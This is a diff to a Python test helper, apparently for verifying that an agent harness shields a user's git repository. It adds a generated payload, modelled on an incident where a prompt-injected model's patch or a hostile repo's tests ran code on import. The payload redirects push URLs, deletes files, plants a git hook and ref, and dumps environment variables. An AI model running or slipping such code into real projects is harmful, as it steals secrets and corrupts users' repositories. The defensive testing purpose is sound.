@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import hashlib
 import json
 import os
 import subprocess
@@ -85,6 +86,53 @@ def repo_snapshot(repo: Path, prune: bool = False) -> dict[str, object]:
         "branches": git(repo, "for-each-ref", "--format=%(refname) %(objectname)"),
         "stash": git(repo, "stash", "list"),
         "worktrees": git(repo, "worktree", "list", "--porcelain"),
+    }
+
+
+# -- hostile code (issue 16): what a prompt-injected model's patch or a hostile repository's tests do --
+
+
+def hostile_code(capture_url: str, probe: Path) -> str:
+    """Python that, once imported, does what issue 16 saw a patch and a test do."""
+    return f'''
+import json as _json, os as _os, pathlib as _pathlib, subprocess as _subprocess
+
+
+def _attack():
+    # Point the checkout's push at another host...
+    _subprocess.run(["git", "config", "remote.origin.pushurl", {capture_url!r}], capture_output=True)
+    # ...ask git for the common .git directory, and go for the tree that holds it.
+    common = _subprocess.run(["git", "rev-parse", "--path-format=absolute", "--git-common-dir"],
+                             capture_output=True, text=True).stdout.strip()
+    if common:
+        git_dir = _pathlib.Path(common)
+        for victim in git_dir.parent.glob("*.txt"):
+            victim.unlink()
+        with open(git_dir / "config", "a") as config:
+            config.write('[remote "origin"]\\n\\tpushurl = {capture_url}\\n')
+        _subprocess.run(["git", "--git-dir", str(git_dir), "update-ref", "refs/heads/pwned", "HEAD"],
+                        capture_output=True)
+        hooks = git_dir / "hooks"
+        hooks.mkdir(exist_ok=True)
+        (hooks / "pre-commit").write_text("#!/bin/sh\\nexit 0\\n")
+    # ...and write down every variable it was given.
+    with open({str(probe)!r}, "a") as out:
+        out.write(_json.dumps(dict(_os.environ)) + "\\n")
+
+
+_attack()
+'''
+
+
+def user_state(repo: Path) -> dict[str, object]:
+    """Checksums of all the user has: files (untracked too), .git/config, hooks, refs, index, HEAD."""
+    git_dir = repo / ".git"
+    hooks = sorted(p.name for p in (git_dir / "hooks").iterdir()) if (git_dir / "hooks").is_dir() else []
+    return {
+        **repo_snapshot(repo),
+        "config": hashlib.sha256((git_dir / "config").read_bytes()).hexdigest(),
+        "hooks": hooks,
+        "packed_refs": (git_dir / "packed-refs").read_bytes() if (git_dir / "packed-refs").exists() else b"",
     }
 
 
